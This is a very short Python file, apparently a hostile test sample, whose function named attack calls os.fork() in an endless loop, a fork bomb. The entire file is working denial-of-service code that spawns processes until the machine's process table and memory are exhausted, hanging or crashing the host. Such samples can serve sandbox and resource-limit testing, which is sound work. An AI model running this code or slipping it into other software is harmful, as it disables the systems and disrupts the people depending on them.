"""Tries to fork without end."""

import os


def attack(argument):
    while True:
        os.fork()
